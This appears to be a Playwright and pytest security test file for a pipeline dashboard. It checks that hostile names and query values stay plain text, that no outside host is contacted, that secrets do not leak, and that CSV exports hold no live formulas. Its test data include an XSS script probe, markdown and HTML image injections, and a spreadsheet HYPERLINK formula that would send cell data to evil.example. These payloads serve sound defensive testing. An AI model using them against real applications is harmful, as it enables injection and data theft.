"""Names that are Markdown, HTML, links and formulas, and secrets in the raw data: none of it does anything."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

import pytest
import requests
from playwright.sync_api import Page, ViewportSize, WebSocket, expect

from sandbox import Sandbox
from tests.conftest import Dashboard, Listen, free_port, launch, settings_for
from tests.tab_house import downloaded, drawn, fits, heading, unfold

OPENED = 8000  # its name has bold, italics, code, a link and a heading
ADDRESS = 8009  # its name is nothing but addresses
DESK = ViewportSize(width=1280, height=3000)
RAW_SECRETS = ("must-stay-hidden", "hunter2", "db_password", "api_token", "webhook_url", "root:")
FORMULA_STARTS = tuple("=+-@\t\r\0＝＋－＠")
FOUND_IN_PAGE = """() => {
  const main = document.querySelector('[data-testid=stMain]')
  const made = [...main.querySelectorAll('b, em, i, del, script, iframe, .katex, p code, li code, h1 code')]
  const pictures = [...document.querySelectorAll('img, video, audio, link, source')]
    .filter(one => /^(https?:)?\\/\\//.test(one.getAttribute('src') ?? one.getAttribute('href') ?? ''))
    .filter(one => new URL(one.src || one.href).host !== location.host)
  const links = [...document.querySelectorAll('[href]')].filter(one => /evil|^mailto:|^javascript:/i.test(one.href))
  const icons = [...main.querySelectorAll('[data-testid=stIconMaterial]')].filter(one => one.innerText === 'delete')
  return [...made, ...pictures, ...links, ...icons].map(one => one.outerHTML.slice(0, 200))
}"""


@pytest.fixture(scope="module")
def hevo() -> Iterator[Sandbox]:
    """An account whose every text is hostile, and whose raw data hold secrets."""
    with Sandbox("hostile") as sandbox:
        yield sandbox


@pytest.fixture(scope="module")
def dashboard(hevo: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dashboard]:
    """A dashboard on it."""
    with launch(tmp_path_factory.mktemp("hostile"), free_port(), **settings_for(hevo, 600)) as dashboard:
        yield dashboard


class Wire:
    """What a tab asks for and what it is told, on the web and on its websocket."""

    def __init__(self, listen: Listen, own: str) -> None:
        self.foreign: list[str] = []
        self.frames: list[bytes] = []
        self._own = (own, own.replace("http", "ws"), "data:", "blob:")
        listen("request", lambda request: self._asked(request.url))
        listen("websocket", self._listen)

    def _asked(self, url: str) -> None:
        if not url.startswith(self._own):
            self.foreign.append(url)

    def _listen(self, socket: WebSocket) -> None:
        self._asked(socket.url)
        for event in ("framereceived", "framesent"):
            socket.on(event, lambda frame: self.frames.append(frame if isinstance(frame, bytes) else frame.encode()))

    def leaks(self, page: Page) -> list[str]:
        """The secrets that were sent to the tab, or stand in its document."""
        sent = b"".join(self.frames).decode("utf-8", "replace") + page.content()
        return [secret for secret in RAW_SECRETS if secret in sent]


def visit(page: Page, address: str, text: str) -> None:
    """Opens a page and waits until all of it is drawn."""
    page.goto(address)
    expect(page.get_by_role("heading", level=1)).to_contain_text(text)
    drawn(page)


def stays_text(page: Page, wire: Wire) -> None:
    """Whatever stands on a page, also folded, is text, fits a phone, and no other host hears of it."""
    unfold(page)
    assert (page.url, page.evaluate(FOUND_IN_PAGE)) == (page.url, [])
    fits(page, 320)
    assert wire.foreign == []
    assert wire.frames
    assert wire.leaks(page) == []
    page.set_viewport_size(DESK)


def test_hostile_text_stays_text_and_no_other_host_hears_of_it(
    dashboard: Dashboard, page: Page, listen: Listen
) -> None:
    wire = Wire(listen, dashboard.url)
    visit(page, dashboard.url, "pipelines need attention")
    stays_text(page, wire)
    for name in ("Pipelines", "History", "Run"):
        page.get_by_role("link", name=name, exact=True).click()
        heading(page, name)
        drawn(page)
        stays_text(page, wire)
    visit(page, f"{dashboard.url}/pipelines?pipeline={ADDRESS}", "https://\u200bevil.example/bare")
    stays_text(page, wire)


def test_a_pipelines_page_the_confirmation_and_the_outcome_of_a_run_show_the_name_as_it_is(
    dashboard: Dashboard, page: Page, listen: Listen
) -> None:
    wire = Wire(listen, dashboard.url)
    visit(page, f"{dashboard.url}/pipelines?pipeline={OPENED}", "**bold** _it_ `code` [click](https://")
    stays_text(page, wire)
    expect(page.get_by_text(re.compile(r"^\d+ tables?\.$|tables failed|lists no tables"))).to_be_visible()
    page.get_by_role("button", name="Run", exact=True).click()
    expect(page.get_by_role("dialog")).to_contain_text('Run "**bold** _it_ `code` [click](https://')
    page.get_by_role("dialog").get_by_role("button", name="Run pipeline").click()
    page.get_by_role("link", name="Run", exact=True).click()
    expect(page.get_by_text("That does not mean it worked yet.").first).to_be_visible()
    assert page.evaluate(FOUND_IN_PAGE) == []
    assert wire.foreign == []
    assert wire.leaks(page) == []


def test_a_pipeline_without_a_number_can_be_chosen_in_the_table_without_harm(dashboard: Dashboard, page: Page) -> None:
    visit(page, f"{dashboard.url}/pipelines?search=heading", "Pipelines")
    numbers = [row["number"] for row in downloaded(page)]
    choose(page, numbers.index(""))
    expect(page).to_have_url(f"{dashboard.url}/pipelines?search=heading")
    choose(page, numbers.index(str(OPENED)))
    expect(page).to_have_url(f"{dashboard.url}/pipelines?search=heading&pipeline={OPENED}")


def choose(page: Page, place: int) -> None:
    """Clicks on a name in the table, which is painted on a canvas: by its place."""
    page.get_by_test_id("stDataFrame").click(position={"x": 150, "y": 35 * (place + 1) + 18})


def test_no_cell_of_a_download_is_a_formula_or_a_secret(dashboard: Dashboard, hevo: Sandbox, page: Page) -> None:
    visit(page, f"{dashboard.url}/pipelines", "Pipelines")
    is_harmless(downloaded(page), hevo)
    page.get_by_role("link", name="History", exact=True).click()
    heading(page, "History")
    drawn(page)
    is_harmless(downloaded(page, "Download the history as CSV"), hevo)


def is_harmless(rows: list[dict[str, str]], hevo: Sandbox) -> None:
    """A download holds every pipeline, as text: no formula and no secret."""
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell.lstrip(" \n\u00a0\u200b\u2060\ufeff").startswith(FORMULA_STARTS)] == []
    assert {'\'=HYPERLINK("https://evil.example/?"&A1, "open")', "'+1-2", "'@SUM(1+1)"} <= set(cells)
    assert [secret for secret in RAW_SECRETS if secret in json.dumps(rows)] == []
    assert {str(number) for number in hevo.fleet.ids if number} <= set(cells)


def test_a_hostile_link_is_only_text(dashboard: Dashboard, page: Page, listen: Listen) -> None:
    wire = Wire(listen, dashboard.url)
    visit(page, f"{dashboard.url}/pipelines?status=![x](https://evil.example/x.png)&search=<img src=x>", "Pipelines")
    expect(page.get_by_text("it was left out: ![x](https://")).to_be_visible()
    visit(page, f"{dashboard.url}/pipelines?pipeline=<script>alert(1)</script>", "This pipeline is not here")
    assert page.evaluate(FOUND_IN_PAGE) == []
    assert wire.foreign == []


def test_the_raw_data_really_hold_what_these_tests_look_for(hevo: Sandbox) -> None:
    key = hevo.api_key, hevo.api_secret
    answer = requests.get(f"{hevo.base_url}/pipelines/{OPENED}", auth=key, timeout=20).text
    assert [secret for secret in RAW_SECRETS if secret not in answer] == []
